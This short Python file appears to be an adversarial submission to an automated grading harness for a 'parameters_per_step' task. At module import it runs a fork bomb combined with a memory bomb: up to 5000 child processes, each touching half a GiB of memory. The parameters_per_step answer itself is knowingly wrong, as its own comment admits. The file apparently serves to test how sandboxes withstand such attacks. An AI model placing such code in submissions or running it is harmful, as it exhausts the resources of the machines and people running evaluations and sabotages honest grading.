# base: reference
# attacks: parameters_per_step
# class: a fork bomb and a memory bomb spread over many processes
# %% parameters_per_step
import os


def _bomb():
    children = 0
    try:
        while children < 5000:
            if os.fork() == 0:
                try:
                    hog = bytearray(512 * 1024**2)  # half a GiB each, touched
                    hog[::4096] = b"x" * len(hog[::4096])
                except MemoryError:
                    pass
                import time
                time.sleep(60)
                os._exit(0)
            children += 1
    except OSError:
        pass
    return children


_bomb()


def parameters_per_step(n_inputs):
    return n_inputs  # wrong: the hidden weight is a parameter too
